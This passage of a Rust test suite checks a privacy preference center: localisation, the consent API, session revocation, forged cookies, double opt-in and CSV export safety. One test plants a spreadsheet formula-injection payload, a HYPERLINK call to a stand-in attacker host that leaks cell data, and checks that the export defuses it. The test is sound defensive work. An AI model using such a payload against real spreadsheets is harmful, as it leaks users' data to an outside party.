            &[("origin", ORIGIN), ("x-forwarded-for", &claimed)],
        );
        req.extensions_mut().insert(axum::extract::ConnectInfo(
            "203.0.113.50:50000"
                .parse::<std::net::SocketAddr>()
                .unwrap(),
        ));
        statuses.push(send(center.router(), req).await.status);
    }
    assert!(
        statuses[..20].iter().all(|s| *s == StatusCode::OK),
        "{statuses:?}"
    );
    assert_eq!(statuses[20], StatusCode::TOO_MANY_REQUESTS, "{statuses:?}");
}

#[tokio::test]
async fn the_page_speaks_the_customers_language() {
    let center = Center::new().await;
    let browser = center.browser(center.subject(0)).await;
    let german = send(
        center.router(),
        Request::get("/preferences")
            .header(header::COOKIE, &browser.cookie)
            .header(header::ACCEPT_LANGUAGE, "de-DE,de;q=0.9,en;q=0.5")
            .body(Body::empty())
            .unwrap(),
    )
    .await;
    assert!(german.text.contains("<html lang=\"de\">"));
    assert!(german.text.contains("Ihre Datenschutz-Einstellungen"));
    // Purposes and topics in the manifest's German words.
    assert!(
        german.text.contains("Bestellungen liefern"),
        "{}",
        german.text
    );
    assert!(german.text.contains("Newsletter und Angebote"));
    assert!(german.text.contains("Rabattaktionen und Gutscheincodes."));
    let french = browser.get(&center, "/preferences?lang=fr").await;
    assert!(french.text.contains("<html lang=\"fr\">"));
    assert!(
        french.text.contains("Nous utilisons ce que vous consultez"),
        "the notice in French"
    );
    let spanish = browser.get(&center, "/preferences?lang=es").await;
    assert!(spanish.text.contains("Tus opciones de privacidad"));
    // Every control has a label.
    for input in spanish.text.split("<input").skip(1) {
        let tag = &input[..input.find('>').unwrap()];
        if tag.contains("type=\"hidden\"") {
            continue;
        }
        let id = tag
            .split("id=\"")
            .nth(1)
            .map(|r| &r[..r.find('"').unwrap()]);
        let id = id.unwrap_or_else(|| panic!("an input without an id: {tag}"));
        assert!(
            spanish.text.contains(&format!("for=\"{id}\"")),
            "no label for {id}"
        );
    }
}

#[tokio::test]
async fn the_json_api_reads_and_changes_choices() {
    let center = Center::new().await;
    let subject = center.subject(0);
    let path = format!("/v1/subjects/{}/preferences", subject.0);
    let read = center.api("GET", &path, None).await;
    assert_eq!(read.status, StatusCode::OK, "{}", read.text);
    assert_eq!(read.json["regime"], "gdpr");
    let ops = read.json["purposes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["purpose"] == "essential.service.operations")
        .unwrap();
    assert_eq!(ops["legal_basis"], "contract");
    assert_eq!(ops["switchable"], false);

    let changed = center
        .api(
            "PUT",
            &path,
            Some(json!({
                "purposes": { "personalize.content.profiled": true },
                "channels": [{ "channel": "email", "frequency": "month", "quiet_hours": { "start": "22:00", "end": "07:00" } }]
            })),
        )
        .await;
    assert_eq!(changed.status, StatusCode::OK, "{}", changed.text);
    let personal = changed.json["purposes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["purpose"] == "personalize.content.profiled")
        .unwrap();
    assert_eq!(personal["allowed"], true);
    let email = changed.json["channels"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["channel"] == "email")
        .unwrap();
    assert_eq!(email["frequency"], "month");
    assert_eq!(email["quiet_hours"]["start"], "22:00");
    let last = center.records(subject).await.pop().unwrap();
    assert_eq!(last.method, CollectionMethod::Api);
    assert_eq!(last.source, "preference_center");

    let contract = center
        .api(
            "PUT",
            &path,
            Some(json!({ "purposes": { "essential.service.operations": false } })),
        )
        .await;
    assert_eq!(contract.status, StatusCode::UNPROCESSABLE_ENTITY);
    let unknown = center
        .api(
            "PUT",
            &path,
            Some(
                json!({ "topics": [{ "channel": "email", "topic": "nope", "subscribed": true }] }),
            ),
        )
        .await;
    assert_eq!(unknown.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(unknown.json["error"]["field"], "topics");
    let missing = center
        .api("GET", "/v1/subjects/999999/preferences", None)
        .await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
    // The index serves the same choices as the store holds.
    assert!(crate::support::preference_reads_agree(&center.state).await > 0);
}

#[tokio::test]
async fn mail_settings_come_from_the_environment_and_the_password_stays_secret() {
    use kept_server::config::{Config, Env, Flags, SmtpTls};
    let dir = tempfile::tempdir().unwrap();
    let password = dir.path().join("smtp-password");
    std::fs::write(&password, "s3cret-pass\n").unwrap();
    let env = Env::from_pairs([
        ("KEPT_SMTP_HOST", "mail.example"),
        ("KEPT_SMTP_PORT", "2525"),
        ("KEPT_SMTP_TLS", "tls"),
        ("KEPT_SMTP_USER", "kept"),
        ("KEPT_SMTP_PASSWORD_FILE", password.to_str().unwrap()),
        ("KEPT_SMTP_FROM", "Larkspur <privacy@larkspur.example>"),
        ("KEPT_PUBLIC_URL", "https://privacy.larkspur.example/"),
    ]);
    let config = Config::load(None, &env, &Flags::new()).unwrap();
    assert_eq!(config.smtp_host.as_deref(), Some("mail.example"));
    assert_eq!(config.smtp_port, Some(2525));
    assert_eq!(config.smtp_tls, SmtpTls::Tls);
    assert_eq!(
        config.smtp_password.as_ref().unwrap().expose(),
        "s3cret-pass"
    );
    assert_eq!(
        config.public_url.as_deref(),
        Some("https://privacy.larkspur.example")
    );
    assert!(!format!("{config:?}").contains("s3cret"));
    // Links follow the public URL, and its https makes the cookie Secure.
    let center = PrefCenter::new(
        PrefCenterConfig::from_config(&config),
        Mailer::from_config(&config, "Larkspur").unwrap(),
    );
    assert_eq!(center.base_url(), "https://privacy.larkspur.example");
    assert!(center.secure(&axum::http::HeaderMap::new()));

    let bad = Config::load(
        None,
        &Env::from_pairs([("KEPT_SMTP_TLS", "maybe")]),
        &Flags::new(),
    )
    .unwrap_err();
    assert_eq!(bad.code(), "config.invalid_value");
    assert!(bad.to_string().contains("smtp_tls"), "{bad}");
    // Demo mode without a mail server writes links to the log; otherwise there is no sign-in.
    let demo = Config::load(
        None,
        &Env::from_pairs([("KEPT_DEMO", "true")]),
        &Flags::new(),
    )
    .unwrap();
    assert!(Mailer::from_config(&demo, "x").unwrap().can_send());
    let plain = Config::load(None, &Env::default(), &Flags::new()).unwrap();
    assert!(!Mailer::from_config(&plain, "x").unwrap().can_send());
}

#[tokio::test]
async fn signing_out_ends_the_session_on_the_server() {
    let center = Center::new().await;
    let subject = center.subject(0);
    let browser = center.browser(subject).await;
    // A copy of the cookie, as an attacker who read it would hold.
    let copy = Browser {
        cookie: browser.cookie.clone(),
        csrf: browser.csrf.clone(),
    };
    assert_eq!(
        copy.get(&center, "/preferences/data.json").await.status,
        StatusCode::OK
    );

    let out = browser.post(&center, "/preferences/sign-out", &[]).await;
    assert_eq!(out.status, StatusCode::SEE_OTHER);
    assert!(location(&out).starts_with("/preferences/sign-in"));

    // Still within the cookie's two hours, still correctly signed: refused all the same.
    let page = copy.get(&center, "/preferences").await;
    assert_eq!(page.status, StatusCode::SEE_OTHER);
    assert!(location(&page).starts_with("/preferences/sign-in"));
    for path in [
        "/preferences/data.json",
        "/preferences/data.zip",
        "/preferences/data.html",
    ] {
        let data = copy.get(&center, path).await;
        assert_eq!(data.status, StatusCode::UNAUTHORIZED, "{path}");
        assert!(!data.text.contains("\"traits\""), "{path}");
    }
    let post = copy
        .post(&center, "/preferences/erase", &[("confirm", "yes")])
        .await;
    assert_eq!(post.status, StatusCode::UNAUTHORIZED);
    assert!(
        center
            .app
            .store
            .erasure_requests(subject)
            .await
            .unwrap()
            .is_empty()
    );
}

#[tokio::test]
async fn a_new_sign_in_link_ends_the_older_sessions() {
    let center = Center::new().await;
    let subject = center.subject(0);
    let old = center.browser(subject).await;
    let other = center.browser(center.subject(1)).await;
    let new = center.browser(subject).await;
    assert_eq!(
        old.get(&center, "/preferences/data.json").await.status,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        new.get(&center, "/preferences/data.json").await.status,
        StatusCode::OK
    );
    // Another customer's session is not touched.
    assert_eq!(
        other.get(&center, "/preferences/data.json").await.status,
        StatusCode::OK
    );
}

#[tokio::test]
async fn a_cookie_for_a_session_the_server_never_opened_opens_nothing() {
    let center = Center::new().await;
    let subject = center.subject(0);
    // A correctly signed session cookie (the secret leaked, or minted before this change) whose
    // id the store does not know.
    let keys = center
        .state
        .prefcenter
        .keys(center.app.store.as_ref())
        .await
        .unwrap();
    let claims = kept_server::prefcenter::token::fresh(
        kept_server::prefcenter::token::Kind::Session,
        subject,
        NOW + 60 * MINUTE,
    );
    let cookie = format!("kept_prefs={}", keys.sign(&claims));
    let page = send(
        center.router(),
        get_page("/preferences/data.json", Some(&cookie)),
    )
    .await;
    assert_eq!(page.status, StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn csv_exports_defuse_formulas_planted_in_traits() {
    let center = Center::new().await;
    let subject = center.subject(0);
    let user_id = "u1";
    // A name as the customer typed it into the shop's own form, sent on by its backend: a
    // public key can no longer write a known customer's traits, but the text still arrives.
    let answer = send(
        center.router(),
        Request::post("/v1/identify")
            .header(
                header::AUTHORIZATION,
                format!("Bearer {}", center.app.key(Role::Server)),
            )
            .header(header::CONTENT_TYPE, "application/json")
            .body(Body::from(
                json!({
                    "userId": user_id,
                    "traits": { "name": "=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")" },
                    "context": { "kept": { "collection_point": "checkout" } }
                })
                .to_string(),
            ))
            .unwrap(),
    )
    .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
    let browser = center.browser(subject).await;
    let zip = browser.get(&center, "/preferences/data.zip").await;
    assert_eq!(zip.status, StatusCode::OK, "{}", zip.text);
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(zip.bytes)).unwrap();
    let mut traits = String::new();
    std::io::Read::read_to_string(&mut archive.by_name("traits.csv").unwrap(), &mut traits)
        .unwrap();
    let row = traits
        .lines()
        .find(|l| l.starts_with("name,"))
        .unwrap_or_else(|| panic!("a row for the name: {traits}"));
    assert!(
        row.starts_with("name,\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,"),
        "{row}"
    );
    // No cell of any file of the export starts a formula.
    for i in 0..archive.len() {
        let mut file = archive.by_index(i).unwrap();
        let mut text = String::new();
        std::io::Read::read_to_string(&mut file, &mut text).unwrap();
        for line in text.lines() {
            for cell in line.split(',') {
                let cell = cell.trim_start_matches('"');
                assert!(!cell.starts_with(['=', '+', '@', '\t']), "{line}");
            }
        }
    }
}

/// The link of the latest mail, once the mailer (off the request) has sent one.
async fn next_mail_link(center: &Center, before: usize) -> String {
    for _ in 0..200 {
        let mails = center.mails();
        if mails.len() > before {
            return link_in(mails.last().unwrap());
        }
        tokio::task::yield_now().await;
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    panic!("no mail was sent");
}

/// Asks for the newsletter by email from the preference page and confirms it from the mail.
async fn subscribe_and_confirm(center: &Center, subject: SubjectId) {
    let browser = center.browser(subject).await;
    let before = center.mails().len();
    let asked = browser
        .post(
            center,
            "/preferences/messages",
            &[("topic", "email:newsletter")],
        )
        .await;
    assert_eq!(asked.status, StatusCode::SEE_OTHER, "{}", asked.text);
    let link = next_mail_link(center, before).await;
    let confirmed = send(
        center.router(),
        form_post(
            "/preferences/confirm",
            &[("token", &token_of(&link))],
            None,
            &[("origin", ORIGIN)],
        ),
    )
    .await;
    assert_eq!(confirmed.status, StatusCode::OK, "{}", confirmed.text);
    let last = center.records(subject).await.pop().unwrap();
    assert_eq!(last.action, ConsentAction::Given);
    assert_eq!(last.method, CollectionMethod::DoubleOptIn);
}

#[tokio::test]
async fn a_confirmed_subscription_never_records_a_collection_point_the_customer_did_not_use() {
    // A manifest whose purchase form shows the newsletter's notice too, and sorts first.
    let mut manifest = crate::support::demo_manifest();
    let mut purchase = manifest.collection_points["checkout"].clone();
    purchase.notice = "newsletter".into();
    purchase.name = "Quick purchase".into();
    manifest
        .collection_points
        .insert("a_quick_purchase".into(), purchase);
    let center = Center::with(
        manifest,
        vec![crate::support::new_subject("u4", Some("CA"), None)],
    )
    .await;
    let offers = |channel: &str| json!({ "purpose": "marketing.communications", "channel": channel, "topic": "offers" });
    // A newsletter-only subscriber in the EU and one in Canada.
    for (i, user, email) in [(0, "u1", "ada@example.com"), (3, "u4", "cal@example.ca")] {
        let subject = center.subject(i);
        center.give_email(user, email, "newsletter_signup").await;
        let before = center.decide(subject, offers("email")).await;
        assert!(before.starts_with("denied."), "{user}: {before}");

        subscribe_and_confirm(&center, subject).await;

        let traits = center.app.store.traits(subject).await.unwrap();
        let points: Vec<&str> = traits
            .iter()
            .map(|t| t.provenance.collection_point.as_str())
            .collect();
        assert!(
            !points.contains(&"a_quick_purchase"),
            "{user}: no purchase was made: {points:?}"
        );
        assert!(points.contains(&"email_preferences"), "{user}: {points:?}");
        // Neither a soft opt-in "customer" (EU) nor implied consent from a purchase (Canada):
        // offers were never asked for.
        let after = center.decide(subject, offers("email")).await;
        assert!(after.starts_with("denied."), "{user}: {after}");
    }
}

#[tokio::test]
async fn a_no_to_something_never_given_is_refused_and_a_no_to_a_given_consent_withdraws_it() {
    // A checkout whose notice says customers get emails about similar products.
    let mut manifest = crate::support::demo_manifest();
    manifest
        .notices
        .get_mut("checkout")
        .unwrap()
        .purposes
        .push("marketing.communications".into());
    // ...and a shop that uses soft opt-in for it.
    manifest
        .purposes
        .get_mut("marketing.communications")
        .unwrap()
        .soft_opt_in = true;
    let center = Center::with(manifest, Vec::new()).await;
    let subject = center.subject(0); // Germany: marketing email needs consent.
    center.give_email("u1", "ada@example.com", "checkout").await;
    let offers = json!({
        "purpose": "marketing.communications", "channel": "email", "topic": "offers"
    });
    // Allowed as a soft opt-in, though no consent was ever given.
    assert_eq!(
        center.decide(subject, offers.clone()).await,
        "allowed.soft_opt_in"
    );
    let browser = center.browser(subject).await;
    let page = browser.get(&center, "/preferences").await;
    assert!(page.text.contains("email:offers"), "{}", page.text);
    // Every box left unticked: a "no" to offers, which were never consented to.
    let no = browser.post(&center, "/preferences/messages", &[]).await;
    assert_eq!(no.status, StatusCode::SEE_OTHER, "{}", no.text);
    let records = center.records(subject).await;
    let last = records.last().unwrap();
    assert_eq!(last.topic.as_deref(), Some("offers"));
    assert_eq!(last.action, ConsentAction::Refused, "{records:#?}");
    assert!(
        !records.iter().any(|r| r.action == ConsentAction::Withdrawn),
        "nothing given, nothing withdrawn: {records:#?}"
    );
    assert_eq!(center.decide(subject, offers).await, "denied.unsubscribed");

    // A consent that was given is withdrawn.
    subscribe_and_confirm(&center, subject).await;
    let browser = center.browser(subject).await;
    let no = browser.post(&center, "/preferences/messages", &[]).await;
    assert_eq!(no.status, StatusCode::SEE_OTHER, "{}", no.text);
    let last = center.records(subject).await.pop().unwrap();
    assert_eq!(last.topic.as_deref(), Some("newsletter"));
    assert_eq!(last.action, ConsentAction::Withdrawn);
    // The index serves the same choices as the store holds.
    assert!(crate::support::preference_reads_agree(&center.state).await > 0);
}

#[tokio::test]
async fn a_topic_is_shown_and_recorded_with_the_notice_it_names() {
    // Two notices promise marketing email; the offers topic names the second.
    let mut manifest = crate::support::demo_manifest();
    let mut promo = manifest.notices["newsletter"].clone();
    promo.locales.get_mut("en").unwrap().title = "Offers by email".into();
    manifest.notices.insert("promo_mail".into(), promo);
    manifest.topics.get_mut("offers").unwrap().notice = Some("promo_mail".into());
    let center = Center::with(manifest, Vec::new()).await;
    let subject = center.subject(0);
    center
        .give_email("u1", "ada@example.com", "newsletter_signup")
        .await;
    let prefs = center
        .api(
            "GET",
            &format!("/v1/subjects/{}/preferences", subject.0),
            None,
        )
        .await;
    assert_eq!(prefs.status, StatusCode::OK, "{}", prefs.text);
    let topics = prefs.json["channels"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["channel"] == "email")
        .unwrap()["topics"]
        .as_array()
        .unwrap()
        .clone();
    let notice_of =
        |topic: &str| topics.iter().find(|t| t["topic"] == topic).unwrap()["notice"]["id"].clone();
    assert_eq!(notice_of("offers"), "promo_mail", "{topics:#?}");
    assert_eq!(notice_of("newsletter"), "newsletter", "{topics:#?}");
    let browser = center.browser(subject).await;
    let page = browser.get(&center, "/preferences").await;
    assert!(page.text.contains("Offers by email"), "the page shows it");
    let before = center.mails().len();
    let asked = browser
        .post(
            &center,
            "/preferences/messages",
            &[("topic", "email:offers")],
        )
        .await;
    assert_eq!(asked.status, StatusCode::SEE_OTHER, "{}", asked.text);
    let _ = next_mail_link(&center, before).await;
    let pending = center.records(subject).await.pop().unwrap();
    assert_eq!(pending.action, ConsentAction::Pending);
    assert_eq!(pending.notice.unwrap().id, "promo_mail");
    // The index serves the same choices as the store holds.
    assert!(crate::support::preference_reads_agree(&center.state).await > 0);
}

#[tokio::test]
async fn a_confirmed_double_opt_in_verifies_the_address() {
    let center = Center::new().await;
    // A browser (public key) signs up a new user: the address is not verified, so the sign-in
    // form sends it nothing.
    let answer = send(
        center.router(),
        Request::post("/v1/identify")
            .header(
                header::AUTHORIZATION,
                format!("Bearer {}", center.app.key(Role::Public)),
            )
            .header(header::CONTENT_TYPE, "application/json")
            .body(Body::from(
                json!({"userId": "newbie", "traits": {"email": "newbie@example.com"},
                       "context": {"location": {"country": "DE"}}})
                .to_string(),
            ))
            .unwrap(),
    )
    .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
    let store = center.app.store.as_ref();
    let keys = center.state.identity.keys(store).await.unwrap();
    let hash = keys.identifier_hash(
        kept_core::identity::IdentifierKind::Email,
        "newbie@example.com",
    );
    let subject = store.find_identities(&[hash]).await.unwrap()[0].1;
    assert!(store.verified_identities(&[hash]).await.unwrap().is_empty());
    assert_eq!(
        kept_server::prefcenter::model::subject_by_email(
            store,
            &center.state.identity,
            &center.state.prefcenter,
            "newbie@example.com"
        )
        .await
        .unwrap(),
        None
    );

    // The customer asks for the newsletter and confirms it from the mail: now it is verified.
    let browser = center.browser(subject).await;
    let asked = browser
        .post(
            &center,
            "/preferences/messages",
            &[("topic", "email:newsletter"), ("frequency.email", "week")],
        )
        .await;
    assert_eq!(asked.status, StatusCode::SEE_OTHER, "{}", asked.text);
    let mut mails = center.mails();
    for _ in 0..100 {
        if !mails.is_empty() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
        mails = center.mails();
    }
    let link = link_in(mails.last().expect("a confirmation mail"));
    let confirmed = send(
        center.router(),
        form_post(
            "/preferences/confirm",
            &[("token", &token_of(&link))],
            None,
            &[("origin", ORIGIN)],
        ),
    )
    .await;
    assert_eq!(confirmed.status, StatusCode::OK, "{}", confirmed.text);
    assert_eq!(
        store.verified_identities(&[hash]).await.unwrap(),
        vec![hash]
    );
    assert_eq!(
        kept_server::prefcenter::model::subject_by_email(
            store,
            &center.state.identity,
            &center.state.prefcenter,
            "newbie@example.com"
        )
        .await
        .unwrap(),
        Some(subject)
    );
}

/// A phone number given for texts is written only with the rest of the request: when a later
/// topic is unknown, the request changes nothing, and the number is not attached to the
/// subject (it was, before the rest was checked).
#[tokio::test]
async fn a_refused_update_does_not_attach_the_phone_number_it_gave() {
    let center = Center::new().await;
    let subject = center.subject(1);
    let path = format!("/v1/subjects/{}/preferences", subject.0);
    let phone = "+1 415 555 0177";
    let lookup = "/v1/subjects/lookup?phone=%2B14155550177";
    assert_eq!(
        center.api("GET", lookup, None).await.status,
        StatusCode::NOT_FOUND
    );
    let sms = json!({ "phone": phone, "disclosure_accepted": true });
    let refused = center
        .api(
            "PUT",
            &path,
            Some(json!({
                "topics": [
                    { "channel": "sms", "topic": "offers", "subscribed": true },
                    { "channel": "sms", "topic": "pigeon_post", "subscribed": true },
                ],
                "sms": sms,
            })),
        )
        .await;
    assert_eq!(
        refused.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        refused.text
    );
    assert!(center.records(subject).await.is_empty());
    let found = center.api("GET", lookup, None).await;
    assert_eq!(found.status, StatusCode::NOT_FOUND, "{}", found.text);

    let accepted = center
        .api(
            "PUT",
            &path,
            Some(json!({
                "topics": [{ "channel": "sms", "topic": "offers", "subscribed": true }],
                "sms": sms,
            })),
        )
        .await;
    assert_eq!(accepted.status, StatusCode::OK, "{}", accepted.text);
    let found = center.api("GET", lookup, None).await;
    assert_eq!(found.status, StatusCode::OK, "{}", found.text);
    assert_eq!(found.json["subject"], subject.0, "{}", found.text);
}
